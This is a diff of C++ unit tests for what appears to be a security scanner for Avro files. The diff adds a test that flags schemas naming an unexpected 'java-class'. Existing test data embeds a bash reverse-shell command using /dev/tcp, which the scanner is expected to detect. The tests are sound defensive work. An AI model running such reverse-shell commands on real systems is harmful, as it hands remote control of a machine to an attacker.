@@ -39,12 +39,12 @@ TEST(Avro, no_cut_and_no_byte_makes_it_crash) {
 }
 
 // A file of one block of 100 records, without compression.
-std::string plain(const std::string& data) {
+std::string plain(const std::string& data, const std::string& schema = "\"string\"") {
   const auto text = [](const std::string& value) {
     return static_cast<char>(value.size() * 2) + value;
   };
   const std::string sync(16, 's');
-  return "Obj\1\2"s + text("avro.schema") + text("\"string\"") + "\0"s + sync + "\2"s +
+  return "Obj\1\2"s + text("avro.schema") + text(schema) + "\0"s + sync + "\2"s +
          static_cast<char>(data.size() * 2) + data + sync;
 }
 
@@ -61,6 +61,15 @@ TEST(Avro, blocks_are_searched) {
   EXPECT_TRUE(is_clean(scan_bytes(plain("\x0ahello"))));
   const Report report = scan_bytes(plain("\x50\0bash -i >& /dev/tcp/127.0.0.1/9 0>&1\0"s));
   EXPECT_NE(find_rule(report, "generic-script"), nullptr) << show(report);
+}
+
+TEST(Avro, a_java_class_in_the_schema_is_told) {
+  const auto schema = [](const std::string& name) {
+    return R"({"type":"string","java-class":")" + name + "\"}";
+  };
+  const Report report = scan_bytes(plain("\x0ahello", schema("javax.x.Y")));
+  EXPECT_NE(find_rule(report, "avro-java-class"), nullptr) << show(report);
+  EXPECT_TRUE(is_clean(scan_bytes(plain("\x0ahello", schema("java.lang.Byte")))));
 }
 
 TEST(Avro, a_wrong_marker_or_codec_is_never_clean) {
